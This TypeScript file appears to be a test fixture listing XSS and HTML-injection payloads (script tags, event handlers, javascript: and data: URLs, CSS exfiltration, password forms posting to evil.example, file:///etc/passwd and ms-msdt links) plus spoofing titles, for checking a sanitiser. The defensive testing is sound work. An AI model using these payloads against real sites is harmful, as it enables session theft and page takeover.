import { hostileBreakouts } from './hostile-breakouts.ts';

/** HTML with which a source might take over the page around it. */
export interface HostileEntry {
  /** The attack in words. */
  readonly name: string;
  readonly html: string;
}

/** A title with which a source might break the page or mislead readers. */
export interface HostileTitle {
  /** The attack in words. */
  readonly name: string;
  /** Plain text, as a feed carries it. */
  readonly title: string;
}

/** Every script calls this function; a browser test defines it and counts the calls. */
const RUN = 'window.attacked(1)';

/** No such host exists (RFC 2606 §2); a browser test records requests to it. */
const EVIL = 'https://evil.example';

const running: readonly (readonly [string, string])[] = [
  ['plain script', `<script>${RUN}</script>`],
  ['script in mixed case with spaces', `<sCrIpT >${RUN}</ScRiPt\t>`],
  ['script from elsewhere without protocol', '<script src=//evil.example/a.js></script>'],
  ['script with a slash for a space', `<script/x src="${EVIL}/a.js"></script>`],
  ['script never closed', `<script>${RUN}`],
  ['script hidden in script', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['two opening brackets', `<<script>${RUN}//<</script>`],
  ['module script', `<script type=module>${RUN}</script>`],
  ['import map', `<script type=importmap>{"imports":{"a":"${EVIL}/a.js"}}</script>`],
  ['image that fails', `<img src=x onerror="${RUN}">`],
  ['image without spaces', `<img/src=x/onerror=${RUN}>`],
  ['handler after a line end', `<img src=x\nonerror\n=\n"${RUN}">`],
  ['handler after a form feed', `<img src=x\fonerror=${RUN}>`],
  ['handler in capitals', `<IMG SRC=x ONERROR=${RUN}>`],
  ['handler with entities in it', '<img src=x onerror="window&#46;attacked&lpar;1&rpar;">'],
  ['handler behind a broken quote', `<img """><img src=x onerror=${RUN}>">`],
  ['handler in back quotes', `<img src=\`x\` onerror=\`${RUN}\`>`],
  ['handler after a NUL', `<img src=x \u0000onerror=${RUN}>`],
  ['pointer handlers', `<p onclick=${RUN} onmouseover=${RUN} onpointerenter=${RUN}>x</p>`],
  ['focus at once', `<a href="#" autofocus onfocus=${RUN} tabindex=1>x</a>`],
  ['focus of an input', `<input autofocus onfocus=${RUN}>`],
  ['animation ends', `<b style="animation:x 1s" onanimationend=${RUN}>x</b>`],
  ['transition', `<b id=x tabindex=1 style="transition:1s" ontransitionend=${RUN}>x</b>`],
  ['details toggles', `<details open ontoggle=${RUN}><summary>x</summary>y</details>`],
  ['video source fails', `<video><source onerror=${RUN}></video>`],
  ['audio loads', `<audio src=x autoplay onloadstart=${RUN} onerror=${RUN}></audio>`],
  ['body loads', `<body onload=${RUN} onpageshow=${RUN}>x</body>`],
  ['marquee starts', `<marquee onstart=${RUN}>x</marquee>`],
  ['wheel, copy and drag', `<div onwheel=${RUN} oncopy=${RUN} draggable=true ondragstart=${RUN}>x</div>`],
  ['popover', `<button popovertarget=x>y</button><div popover id=x onbeforetoggle=${RUN}>z</div>`],
  ['content becomes visible', `<p oncontentvisibilityautostatechange=${RUN} style="content-visibility:auto">x</p>`],
  ['scroll snap', `<ul onscrollsnapchange=${RUN} onscrollend=${RUN}><li>x</ul>`],
  ['unknown element', `<x-y onclick=${RUN} is=z>x</x-y>`],
  ['isindex', `<isindex action="javascript:${RUN}" type=image>`],
];

/** Addresses that are tried in every attribute from which browsers take an address. */
const addresses: readonly (readonly [string, string])[] = [
  ['javascript', `javascript:${RUN}`],
  ['javascript in mixed case', `JaVaScRiPt:${RUN}`],
  ['javascript after control characters', ` \u0001\u001fjavascript:${RUN}`],
  ['javascript with a tab inside', `java\tscript:${RUN}`],
  ['javascript with a line end as an entity', `java&#x0a;script:${RUN}`],
  ['javascript with a colon as an entity', `javascript&colon;${RUN}`],
  ['javascript in numbers', `&#106;&#x61;vascript&#58;${RUN}`],
  ['javascript in long numbers without semicolon', `&#0000106avascript:${RUN}`],
  ['javascript with a NUL inside', `java\u0000script:${RUN}`],
  ['javascript behind a comment', `javascript://evil.example/%0a${RUN}`],
  ['javascript behind a soft hyphen', `java\u00adscript:${RUN}`],
  ['vbscript', 'vbscript:msgbox(1)'],
  ['data with HTML', `data:text/html,<script>${RUN}</script>`],
  ['data in base64', 'data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQoMSk8L3NjcmlwdD4='],
  ['data with SVG', `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`],
  ['blob', 'blob:https://a.example.com/0-0'],
  ['file', 'file:///etc/passwd'],
  ['view-source', 'view-source:https://evil.example/'],
  ['intent of a phone', 'intent://evil.example/#Intent;scheme=https;end'],
  ['a scheme of a program', 'ms-msdt:/id PCWDiagnostic'],
];

const carriers: readonly (readonly [string, (address: string) => string])[] = [
  ['link', (address) => `<a href="${address}">x</a>`],
  ['image', (address) => `<img src="${address}" alt=x>`],
  ['players', (address) => `<video src="${address}" poster="${address}"><source src="${address}"></video><audio src="${address}"></audio>`],
  [
    'quotation and change',
    (address) => `<q cite="${address}">x</q><blockquote cite="${address}">y</blockquote><del cite="${address}">z</del>`,
  ],
];

const elsewhere: readonly (readonly [string, string])[] = [
  ['frame', `<iframe src="javascript:${RUN}"></iframe>`],
  ['frame with its own document', `<iframe srcdoc="<script>parent.attacked(1)</script>"></iframe>`],
  ['frameset', `<frameset><frame src="javascript:${RUN}"></frameset>`],
  ['object', `<object data="${EVIL}/a.swf"><param name=movie value="${EVIL}"></object>`],
  ['object with fallback', `<object><img src=x onerror=${RUN}></object>`],
  ['embed', `<embed src="javascript:${RUN}" allowscriptaccess=always>`],
  ['applet', `<applet code=A archive="${EVIL}/a.jar">x</applet>`],
  ['portal and fenced frame', `<portal src="${EVIL}"></portal><fencedframe src="${EVIL}"></fencedframe>`],
  ['refresh', `<meta http-equiv=refresh content="0;url=${EVIL}">`],
  ['set-cookie', '<meta http-equiv=Set-Cookie content="a=b">'],
  ['policy that blocks our own', `<meta http-equiv=Content-Security-Policy content="default-src 'none'">`],
  ['base', `<base href="${EVIL}/"><a href="x">y</a>`],
  ['base target', '<base target=_blank><a href="https://x.example/" target=_top>y</a>'],
  ['style sheet', `<link rel=stylesheet href="${EVIL}/a.css">`],
  ['prefetch and preload', `<link rel=prefetch href="${EVIL}/a"><link rel=preload as=image href="${EVIL}/b">`],
  ['style element', `<style>@import "${EVIL}/a.css";body{display:none}</style>`],
  ['style that reads what is typed', `<style>input[value^=a]{background:url(${EVIL}/a)}</style>`],
  ['style attribute with url', `<p style="background:url(${EVIL}/a)">x</p>`],
  ['style attribute with expression', `<p style="width:expression(${RUN})">x</p>`],
  ['style attribute with escapes', `<p style="b\\61 ckground:\\75rl(${EVIL}/a);-moz-binding:url(${EVIL}/b)">x</p>`],
  ['laid over the page', '<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>'],
  ['laid over the page by our own classes', '<div class="page-header fixed modal" id="main" role="dialog" aria-modal="true">x</div>'],
  ['form', `<form action="${EVIL}"><input type=password name=p><button>x</button></form>`],
  ['button with its own form action', `<button formaction="javascript:${RUN}" form=search>x</button>`],
  ['input image', `<input type=image src="${EVIL}/a.png" formaction="${EVIL}">`],
  [
    'select, textarea, keygen',
    `<select onchange=${RUN} autofocus><option>x</select><textarea autofocus onfocus=${RUN}>y</textarea><keygen autofocus>`,
  ],
  ['datalist and output', '<datalist id=q><option value=x></datalist><output for=q name=q>y</output>'],
  ['dialog', '<dialog open>Your session has ended</dialog>'],
  ['srcset', `<img src="i.png" srcset="${EVIL}/a 1x, javascript:${RUN} 2x" sizes=100vw>`],
  ['picture sources', `<picture><source srcset="${EVIL}/a" media=all><img src="i.png" alt=""></picture>`],
  [
    'background, dynsrc and lowsrc',
    `<table background="${EVIL}/a"><td background="${EVIL}/b"><img dynsrc="${EVIL}/c" lowsrc="${EVIL}/d">x`,
  ],
  ['ping', `<a href="https://x.example/" ping="${EVIL}/p">x</a>`],
  ['download', `<a href="https://x.example/a.exe" download="invoice.pdf">x</a>`],
  ['attribution', `<img src="i.png" attributionsrc="${EVIL}/a"><a href="https://x.example/" attributionsrc="${EVIL}">x</a>`],
  ['tracks', `<video src="v.mp4"><track src="${EVIL}/a.vtt" default></video>`],
  [
    'longdesc, usemap and maps',
    `<img src="i.png" longdesc="javascript:${RUN}" usemap="#m"><map name=m><area href="javascript:${RUN}" shape=default></map>`,
  ],
  ['manifest of old', `<html manifest="${EVIL}/a"><head profile="${EVIL}"><title>taken over</title></head>x</html>`],
];

/** Entries of the published classes of attack, in our own words: OWASP's filter evasion, the HTML5
 *  security cheat sheet, mutation XSS and others. Scripts call `window.attacked`; addresses to load
 *  or to follow name evil.example. */
export const hostileEntries: readonly HostileEntry[] = [
  ...running,
  ...addresses.flatMap(([kind, address]) =>
    carriers.map(([carrier, write]): [string, string] => [
      `${kind} as the address of a ${carrier}`,
      write(address.replaceAll('"', '&quot;')),
    ]),
  ),
  ...elsewhere,
  ...hostileBreakouts(RUN, EVIL),
].map(([name, html]) => ({ name, html }));

const repeated = (text: string, count: number) => text.repeat(count);

/** Titles are plain text: markup in them must be shown as text. */
export const hostileTitles: readonly HostileTitle[] = [
  ['script', `<script>${RUN}</script>`],
  ['end of the title element', `</title><script>${RUN}</script>`],
  ['end of an attribute', `"><img src=x onerror=${RUN}>`],
  ['end of a single-quoted attribute', `' onmouseover='${RUN}`],
  ['end of the textarea and style', `</textarea></style></noscript><img src=x onerror=${RUN}>`],
  ['end of JSON in a script', `</script><!--<script>{"a":"\u2028"}`],
  ['comment', '--><!--><b>x</b>'],
  ['CDATA', `]]><img src=x onerror=${RUN}>`],
  ['entities written twice', '&amp;lt;b&amp;gt; &#60;i&#62; &lt;u&gt;'],
  ['template of a server', '{{constructor.constructor("1")()}} ${7*7} <%= 7*7 %> #{7*7}'],
  ['right-to-left override', 'photo\u202egnp.exe'],
  ['override that is not closed, and its neighbours', '\u202e\u202d\u202b\u202aabc'],
  ['isolates that are not closed', '\u2066\u2067\u2068abc'],
  ['pops of what was not opened', '\u202c\u202c\u2069\u2069abc\u2069'],
  ['an override in Arabic', 'خبر \u202e\u0031\u0032\u0033 عاجل'],
  ['marks stacked upon a letter', `Z${repeated('\u0336\u0321\u035c\u0300', 100)}a${repeated('\u0489', 400)}lgo`],
  ['zero-width flood', `a${repeated('\u200b\u200c\u200d\u2060\ufeff', 2000)}b`],
  ['nothing to see', '\u200b\u2060\u3164\u115f\u2800'],
  ['nothing at all', ''],
  ['spaces alone', ' \t\n\u00a0\u3000 '],
  ['one word of 10,000 letters', repeated('w', 10_000)],
  ['10,000 words', repeated('word ', 10_000)],
  ['line ends', `a${repeated('\n', 200)}b\r\nc\u2028d\u2029e\u0085f`],
  ['control characters', `a\u0000\u0001\u0008\u001b[31mred\u007f\u0090b`],
  ['lone surrogates and noncharacters', 'a\ud800b\udc00c\ufffed\uffffe'],
  ['letters that look like others', 'раураl.com: pаssword'],
  ['wide letters', repeated('﷽𒐫', 300)],
  ['emoji joined', repeated('👩‍👩‍👧‍👦', 500)],
  [
    'tags made of tag characters',
    `a${Array.from('<b>', (letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0))).join('')}b`,
  ],
  ['an address', `javascript:${RUN}`],
].map(([name = '', title = '']) => ({ name, title }));
